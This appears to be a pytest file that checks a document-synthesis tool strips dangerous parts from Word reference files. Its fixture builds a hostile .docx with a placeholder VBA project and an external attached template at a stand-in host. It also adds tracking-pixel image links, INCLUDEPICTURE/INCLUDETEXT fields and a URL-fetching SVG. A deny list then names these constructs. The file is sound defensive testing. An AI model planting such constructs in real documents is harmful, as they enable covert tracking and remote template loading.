"""``synthesize --reference-doc``: only styles, numbering, page setup, headers, footers and
theme come from the reference document; never macros, never external relationships.

The hostile reference documents are built here: a python-docx document saved to bytes, then
its zip edited (a VBA project, an attached template, a header logo linked to a URL, external
hyperlinks, a field that fetches a picture, document variables, custom XML …)."""

from __future__ import annotations

import io
import os
import re
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from docx.shared import Cm, RGBColor, Twips

from gcmreview.errors import UsageError
from gcmreview.reference_doc import MAX_REFERENCE_BYTES, reference_package

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = sorted((ROOT / "examples" / "eca").glob("*.docx"))

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
DOC_MAIN = WML + "document.main+xml"
MAIN_TYPES = {
    "docx": DOC_MAIN,
    "dotx": WML + "template.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "dotm": "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
}
HEADING_BLUE = RGBColor(0x12, 0x34, 0x56)
EVIL = "example.invalid"


def png() -> bytes:
    """A 2×2 red PNG (the secretariat's logo)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def rel(rid: str, kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def add_rels(rels: str, *items: str) -> str:
    return rels.replace("</Relationships>", "".join(items) + "</Relationships>")


def hostile_reference(kind: str = "docx") -> bytes:
    """A reference document with everything a reference document must not pass on."""
    ref = docx.Document()
    ref.styles["Normal"].font.name = "Georgia"
    ref.styles["Heading 1"].font.color.rgb = HEADING_BLUE
    section = ref.sections[0]
    section.left_margin = Twips(1760)
    header = section.header.paragraphs[0]
    header.text = "Secretariat letterhead"
    header.add_run().add_picture(io.BytesIO(png()), width=Cm(1))
    section.footer.paragraphs[0].text = "Footer note"
    ref.add_paragraph("This body text is removed.")
    buffer = io.BytesIO()
    ref.save(buffer)
    src = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    files = {name: src.read(name) for name in src.namelist()}
    header_name = next(n for n in files if re.fullmatch(r"word/header\d+\.xml", n))
    footer_name = next(n for n in files if re.fullmatch(r"word/footer\d+\.xml", n))
    header_rels = header_name.replace("word/", "word/_rels/") + ".rels"

    # Header: the logo once more, linked to a URL; once embedded *and* linked; a hyperlink.
    hdr = files[header_name].decode("utf-8")
    drawing = re.search(r"<w:drawing>.*?</w:drawing>", hdr, re.S)
    assert drawing is not None
    logo = drawing.group(0)
    logo_rid = re.search(r'r:embed="([^"]+)"', logo)
    assert logo_rid is not None
    linked = logo.replace(f'r:embed="{logo_rid.group(1)}"', 'r:link="rIdLinked"')
    both = logo.replace(
        f'r:embed="{logo_rid.group(1)}"', f'r:embed="{logo_rid.group(1)}" r:link="rIdBoth"'
    )
    # An SVG copy of the logo (Office's extension) fetching a URL: the extension goes.
    svg_ext = (
        '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
        '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
        'r:embed="rIdSvg"/></a:ext></a:extLst>'
    )
    embed = f'r:embed="{logo_rid.group(1)}"'
    hdr = hdr.replace(f"{embed}/>", f"{embed}>{svg_ext}</a:blip>", 1)
    assert "svgBlip" in hdr
    # A "picture" that is not one (macro bytes typed image/png): its drawing goes.
    fake = logo.replace(f'r:embed="{logo_rid.group(1)}"', 'r:embed="rIdFake"')
    hdr = hdr.replace(
        "</w:p>",
        f"<w:r>{linked}</w:r><w:r>{both}</w:r><w:r>{fake}</w:r>"
        '<w:hyperlink r:id="rIdWeb"><w:r><w:t>UN website</w:t></w:r></w:hyperlink></w:p>',
        1,
    )
    files[header_name] = hdr.encode("utf-8")
    files[header_rels] = add_rels(
        files[header_rels].decode("utf-8"),
        rel("rIdLinked", RT + "image", f"http://{EVIL}/logo.png", external=True),
        rel("rIdBoth", RT + "image", f"http://{EVIL}/tracker.png", external=True),
        rel("rIdWeb", RT + "hyperlink", f"https://{EVIL}/", external=True),
        rel("rIdSvg", RT + "image", "media/logo.svg"),
        rel("rIdFake", RT + "image", "media/fake.png"),
    ).encode("utf-8")
    files["word/media/logo.svg"] = (
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://{EVIL}/t.png"/></svg>'
    ).encode()
    files["word/media/fake.png"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 not a picture"

    # Footer: a picture fetched by a field each time fields update, with its shown result.
    ftr = files[footer_name].decode("utf-8")
    ftr = ftr.replace(
        "</w:p>",
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://{EVIL}/pixel.png" '
        "\\d </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        "<w:r><w:t>pixel result</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        f'<w:fldSimple w:instr=" INCLUDETEXT &quot;http://{EVIL}/x.docx&quot; ">'
        "<w:r><w:t>included result</w:t></w:r></w:fldSimple></w:p>",
        1,
    )
    files[footer_name] = ftr.encode("utf-8")

    # Settings: attached template (external), document variables, mail merge.
    settings = files["word/settings.xml"].decode("utf-8")
    settings = re.sub(
        r"(<w:settings[^>]*>)",
        r'\1<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/>'
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:dataSource r:id="rIdData"/></w:mailMerge>',
        settings,
        count=1,
    )
    settings = settings.replace(
        "</w:settings>",
        '<w:docVars><w:docVar w:name="secret" w:val="do not send"/></w:docVars></w:settings>',
    )
    files["word/settings.xml"] = settings.encode("utf-8")
    files["word/_rels/settings.xml.rels"] = add_rels(
        _empty_rels(),
        rel("rIdTpl", RT + "attachedTemplate", f"http://{EVIL}/evil.dotm", external=True),
        rel("rIdData", RT + "mailMergeSource", f"file://{EVIL}/data.xlsx", external=True),
    ).encode("utf-8")

    # Main part: a VBA project (with its vbaData part), a body hyperlink, a glossary.
    files["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"VBA macro" * 64
    files["word/vbaData.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    )
    files["word/_rels/vbaProject.bin.rels"] = add_rels(
        _empty_rels(),
        rel(
            "rId1",
            "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
            "vbaData.xml",
        ),
    ).encode("utf-8")
    files["word/glossary/document.xml"] = files["word/document.xml"]
    doc_xml = files["word/document.xml"].decode("utf-8")
    doc_xml = doc_xml.replace(
        "<w:body>",
        '<w:body><w:p><w:hyperlink r:id="rIdBodyLink"><w:r><w:t>link</w:t></w:r>'
        "</w:hyperlink></w:p>",
    )
    files["word/document.xml"] = doc_xml.encode("utf-8")
    files["word/_rels/document.xml.rels"] = add_rels(
        files["word/_rels/document.xml.rels"].decode("utf-8"),
        rel(
            "rIdVba",
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
            "vbaProject.bin",
        ),
        rel("rIdGloss", RT + "glossaryDocument", "glossary/document.xml"),
        rel("rIdBodyLink", RT + "hyperlink", f"https://{EVIL}/body", external=True),
    ).encode("utf-8")

    types = files["[Content_Types].xml"].decode("utf-8")
    types = types.replace(DOC_MAIN, MAIN_TYPES[kind]).replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        '<Override PartName="/word/vbaData.xml" '
        'ContentType="application/vnd.ms-word.vbaData+xml"/>'
        '<Default Extension="svg" ContentType="image/svg+xml"/>'
        '<Override PartName="/word/glossary/document.xml" '
        f'ContentType="{WML}document.glossary+xml"/></Types>',
    )
    files["[Content_Types].xml"] = types.encode("utf-8")

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in files.items():
            dst.writestr(name, data)
    return out.getvalue()


def _empty_rels() -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        "</Relationships>"
    )


def entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def assert_clean(files: dict[str, bytes]) -> None:
    """Nothing a reference document must not pass on, in any part of the package."""
    names = set(files)
    assert not any("vbaProject" in n or "vbaData" in n for n in names), names
    assert not any(n.startswith("word/glossary/") for n in names), names
    # custom XML: only gcmreview's own manifest of the synthesis, never the reference's parts
    items = [n for n in names if re.fullmatch(r"customXml/item\d+\.xml", n)]
    for name in items:
        assert b"urn:gcmreview:synthesis-manifest" in files[name], name
    everything = b"\n".join(files.values())
    for forbidden in (
        b"vbaProject",
        b'TargetMode="External"',
        b"attachedTemplate",
        b"docVars",
        b"mailMerge",
        b"linkStyles",
        b"INCLUDEPICTURE",
        b"INCLUDETEXT",
        EVIL.encode(),
        b"r:link=",
    ):
        assert forbidden not in everything, forbidden


def assert_package_consistent(files: dict[str, bytes]) -> None:
    """[Content_Types].xml lists exactly the parts, and every relationship's part exists."""
    types = files["[Content_Types].xml"].decode("utf-8")
    overrides = set(re.findall(r'PartName="/([^"]+)"', types))
    parts = {n for n in files if not n.endswith(".rels") and n != "[Content_Types].xml"}
    assert overrides == parts
    for name, data in files.items():
        if not name.endswith(".rels"):
            continue
        base = name.replace("_rels/", "").removesuffix(".rels")
        folder = os.path.dirname(base) if name != "_rels/.rels" else ""
        for target in re.findall(rb'Target="([^"]+)"', data):
            resolved = os.path.normpath(os.path.join(folder, target.decode()))
            assert resolved in files, (name, target)


# ---------------------------------------------------------------- the package itself


@pytest.mark.parametrize("kind", ["docx", "dotx", "docm", "dotm"])
def test_reference_package_keeps_only_styles_layout_headers_and_footers(tmp_path, kind):
    path = tmp_path / f"reference.{kind}"
    path.write_bytes(hostile_reference(kind))
    files = entries(reference_package(path))
    assert_clean(files)
    assert_package_consistent(files)
    assert DOC_MAIN in files["[Content_Types].xml"].decode()
    assert set(files) == {
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "word/styles.xml",
        "word/stylesWithEffects.xml",
        "word/numbering.xml",
        "word/settings.xml",
        "word/fontTable.xml",
        "word/theme/theme1.xml",
        "word/header1.xml",
        "word/_rels/header1.xml.rels",
        "word/footer1.xml",
        "word/media/image1.png",
    }
    assert files["word/media/image1.png"] == png()
    header = files["word/header1.xml"].decode("utf-8")
    assert header.count("<w:drawing>") == 2  # the embedded logo, and the embedded+linked one
    assert "UN website" in header and "w:hyperlink" not in header
    assert "svgBlip" not in header and "rIdFake" not in header
    footer = files["word/footer1.xml"].decode("utf-8")
    assert "pixel result" in footer and "included result" in footer
    assert "fldChar" not in footer and "fldSimple" not in footer
    body = files["word/document.xml"].decode("utf-8")
    assert "This body text is removed." not in body and "<w:sectPr" in body
    doc = docx.Document(io.BytesIO(reference_package(path)))
    assert doc.styles["Normal"].font.name == "Georgia"
    assert doc.sections[0].left_margin == Twips(1760)
    assert doc.sections[0].header.paragraphs[0].text.startswith("Secretariat letterhead")


def test_a_plain_python_docx_document_loses_only_what_it_does_not_need(tmp_path):
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    path = tmp_path / "plain.docx"
    path.write_bytes(buffer.getvalue())
    files = entries(reference_package(path))
    assert_package_consistent(files)
    assert "word/styles.xml" in files and "word/theme/theme1.xml" in files
    assert not any(n.startswith(("docProps/", "customXml/")) for n in files)
    assert "word/webSettings.xml" not in files


def test_body_pictures_note_separators_and_properties_stay_behind(tmp_path):
    """The body is emptied, so its pictures go; footnotes are not kept, so settings lose
    their separator references; document properties (custom ones included) are not kept,
    so the synthesis's own are the only ones."""
    ref = docx.Document()
    ref.add_picture(io.BytesIO(png()))
    ref.core_properties.author = "Someone at the secretariat"
    buffer = io.BytesIO()
    ref.save(buffer)
    files = entries(buffer.getvalue())
    files["word/settings.xml"] = files["word/settings.xml"].replace(
        b"</w:settings>",
        b'<w:footnotePr><w:footnote w:id="-1"/><w:footnote w:id="0"/></w:footnotePr>'
        b'<w:endnotePr><w:endnote w:id="-1"/><w:endnote w:id="0"/></w:endnotePr></w:settings>',
    )
    path = tmp_path / "ref.docx"
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    cleaned = entries(reference_package(path))
    assert_package_consistent(cleaned)
    assert not any(n.startswith(("word/media/", "docProps/")) for n in cleaned)
    settings = cleaned["word/settings.xml"]
    assert b"<w:footnotePr/>" in settings and b"w:footnote " not in settings
    assert b"w:endnote " not in settings
    assert b"Someone" not in b"".join(cleaned.values())


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty"),
        (b"nope", "not a Word or Excel file"),
        (b"%PDF-1.7", "PDF"),
    ],
)
def test_unusable_reference_is_a_usage_error(tmp_path, content, reason):
    path = tmp_path / "ref.docx"
    path.write_bytes(content)
    with pytest.raises(UsageError) as err:
        reference_package(path)
    assert str(path) in err.value.message and reason in err.value.message
    assert "\n" not in err.value.message


def test_a_workbook_is_not_a_reference_document(tmp_path):
    import openpyxl

    path = tmp_path / "ref.docx"
    openpyxl.Workbook().save(path)
    with pytest.raises(UsageError, match="Excel workbook"):
        reference_package(path)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs and /dev/zero")
def test_refused_before_opening(tmp_path):
    """Folders, pipes, devices and oversized files are refused from their metadata."""
    folder = tmp_path / "folder.docx"
    folder.mkdir()
    big = tmp_path / "big.docx"
    with big.open("wb") as fh:  # sparse: nothing is written, nothing is read
        fh.truncate(MAX_REFERENCE_BYTES + 1)
    fifo = tmp_path / "pipe.docx"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.docx"
    zero.symlink_to("/dev/zero")
    missing = tmp_path / "missing.docx"
    for path, reason in (
        (folder, "folder"),
        (big, "at most 20 MB"),
        (fifo, "not a regular file"),
        (zero, "not a regular file"),
        (missing, "does not exist"),
    ):
        started = time.monotonic()
        with pytest.raises(UsageError) as err:
            reference_package(path)
        assert time.monotonic() - started < 1
        assert err.value.message.startswith(f"--reference-doc {path}: ")
        assert reason in err.value.message and "\n" not in err.value.message


# ---------------------------------------------------------------- through the command line


def synthesize(cli, tmp_path: Path, reference: Path, name: str = "synthesis.docx"):
    out = tmp_path / name
    result = cli(
        "synthesize",
        *map(str, EXAMPLES),
        "--region",
        "ECA",
        "-o",
        str(out),
        "--reference-doc",
        str(reference),
    )
    return result, out


@pytest.mark.parametrize("kind", ["docx", "dotx"])
def test_synthesis_takes_the_styles_and_nothing_hostile(cli, tmp_path, kind):
    reference = tmp_path / f"reference.{kind}"
    reference.write_bytes(hostile_reference(kind))
    result, out = synthesize(cli, tmp_path, reference)
    assert result.exit_code == 0, result.output
    files = entries(out.read_bytes())
    assert_clean(files)
    document = docx.Document(str(out))
    assert document.styles["Normal"].font.name == "Georgia"
    assert document.styles["Heading 1"].font.color.rgb == HEADING_BLUE
    assert document.sections[0].left_margin == Twips(1760)
    header = document.sections[0].header
    assert header.paragraphs[0].text.startswith("Secretariat letterhead")
    header_part = header.part
    images = [r for r in header_part.rels.values() if r.reltype == RT + "image"]
    assert len(images) == 1 and not images[0].is_external  # the logo is kept
    assert "This body text is removed." not in "\n".join(p.text for p in document.paragraphs)


def test_synthesis_with_a_hostile_reference_opens_in_libreoffice(cli, tmp_path, convert):
    reference = tmp_path / "reference.dotm"
    reference.write_bytes(hostile_reference("dotm"))
    result, out = synthesize(cli, tmp_path, reference)
    assert result.exit_code == 0, result.output
    pdf = convert(out, "pdf", tmp_path / "pdf")
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 10_000


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs and /dev/zero")
@pytest.mark.parametrize("target", ["fifo", "zero"])
def test_pipe_or_device_is_refused_quickly(tmp_path, target):
    """A FIFO would block an open(), /dev/zero would never end: exit 2 in seconds, one line.
    A separate process, so that a regression fails on the time limit instead of hanging."""
    reference = tmp_path / "reference.docx"
    if target == "fifo":
        os.mkfifo(reference)
    else:
        reference.symlink_to("/dev/zero")
    started = time.monotonic()
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "gcmreview",
            "synthesize",
            *map(str, EXAMPLES),
            "--region",
            "ECA",
            "-o",
            str(tmp_path / "out.docx"),
            "--reference-doc",
            str(reference),
        ],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env={**os.environ, "COLUMNS": "200", "NO_COLOR": "1"},
    )
    assert time.monotonic() - started < 30
    assert result.returncode == 2, (result.stdout, result.stderr)
    lines = [line for line in result.stderr.splitlines() if "--reference-doc" in line]
    assert len(lines) == 1 and "not a regular file" in lines[0], result.stderr
    assert not (tmp_path / "out.docx").exists()
